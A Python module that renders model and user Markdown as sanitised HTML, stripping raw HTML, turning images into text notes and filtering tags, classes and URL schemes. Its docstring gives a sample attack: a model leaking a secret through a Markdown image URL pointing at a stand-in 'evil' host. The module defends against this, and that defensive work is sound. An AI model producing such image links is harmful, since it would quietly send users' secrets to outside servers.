"""Safe Markdown → HTML for model and user text shown in pages and notebooks.

Three layers, each enough on its own for the common attacks:

1. markdown-it-py parses with raw HTML off, so ``<script>`` in the text stays text. A single
   newline inside a paragraph becomes ``<br>`` (as in chat UIs), not a space.
2. Images never become ``<img>``: a model could leak data through an image URL the browser
   fetches on its own (``![x](https://evil/?q=secret)``), so an image renders as a note with its
   alt text.
3. nh3 cleans the result against an explicit allow-list of tags, attributes, classes and URL
   schemes (http, https, mailto; no relative URLs), and marks every link
   ``rel="noopener noreferrer nofollow" target="_blank"``.

Code blocks are highlighted by Pygments with CSS classes only (no inline styles or scripts).
"""

from __future__ import annotations

import re

import nh3
from markdown_it import MarkdownIt
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.token import STANDARD_TYPES
from pygments.util import ClassNotFound

ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6",
    "strong", "em", "del", "s", "code", "pre", "span", "blockquote",
    "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td",
}
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "ol": {"start"},
    "code": {"class"},
    "span": {"class"},
    "th": {"class"},
    "td": {"class"},
}
URL_SCHEMES = {"http", "https", "mailto"}
LINK_REL = "noopener noreferrer nofollow"

#: The class names Pygments emits for tokens ("k", "nf", "s2", ...).
_TOKEN_CLASSES = frozenset(name for name in STANDARD_TYPES.values() if name)
_ALIGN_CLASSES = frozenset({"align-left", "align-center", "align-right"})
_LANGUAGE_CLASS = re.compile(r"language-[A-Za-z0-9_+#.-]{1,40}")
_IMAGE_NOTE_CLASS = "image-removed"
_TEXT_ALIGN = re.compile(r"text-align:(left|center|right)")


def _keep_known_classes(tag: str, attribute: str, value: str) -> str | None:
    """Only classes this module writes itself survive, so text cannot restyle the page around it."""
    if attribute != "class":
        return value
    if tag == "span":
        allowed = [name for name in value.split() if name in _TOKEN_CLASSES or name == _IMAGE_NOTE_CLASS]
    elif tag == "code":
        allowed = [name for name in value.split() if _LANGUAGE_CLASS.fullmatch(name)]
    else:
        allowed = [name for name in value.split() if name in _ALIGN_CLASSES]
    return " ".join(allowed) or None


_CLEANER = nh3.Cleaner(
    tags=ALLOWED_TAGS,
    clean_content_tags={"script", "style"},
    attributes=ALLOWED_ATTRIBUTES,
    attribute_filter=_keep_known_classes,
    url_schemes=URL_SCHEMES,
    url_relative="deny",
    link_rel=LINK_REL,
    set_tag_attribute_values={"a": {"target": "_blank"}},
    strip_comments=True,
)


def _highlight(code: str, language: str, _attrs: str) -> str:
    """Pygments token spans for a fenced block; empty means "escape it plainly" to markdown-it."""
    if not language:
        return ""
    try:
        lexer = get_lexer_by_name(language.split()[0])
    except ClassNotFound:
        return ""
    return highlight(code, lexer, HtmlFormatter(nowrap=True))


def _image_as_note(renderer: RendererHTML, tokens: list[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
    alt = renderer.renderInlineAsText(tokens[idx].children or [], options, env)
    note = f"[image removed: {alt}]" if alt.strip() else "[image removed]"
    return f'<span class="{_IMAGE_NOTE_CLASS}">{_escape(note)}</span>'


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _build_parser() -> MarkdownIt:
    # breaks: a single newline inside a paragraph is a line break, as chat UIs show it; models
    # write addresses, verse and step lists that way and expect the lines to stay apart.
    options = {"html": False, "breaks": True, "highlight": _highlight}
    parser = MarkdownIt("commonmark", options).enable(["table", "strikethrough"])
    parser.add_render_rule("image", _image_as_note)
    return parser


_PARSER = _build_parser()


def _alignment_as_class(tokens: list[Token]) -> None:
    """Table alignment arrives as a style attribute, which the sanitiser drops; keep it as a class."""
    for token in tokens:
        if token.type in ("th_open", "td_open"):
            style = token.attrs.pop("style", None)
            match = _TEXT_ALIGN.search(str(style or ""))
            if match:
                token.attrSet("class", f"align-{match.group(1)}")


def render_markdown(text: str) -> str:
    """Markdown source → sanitised HTML fragment, safe to insert into a page."""
    env: EnvType = {}
    tokens = _PARSER.parse(text, env)
    _alignment_as_class(tokens)
    return _CLEANER.clean(_PARSER.renderer.render(tokens, _PARSER.options, env))

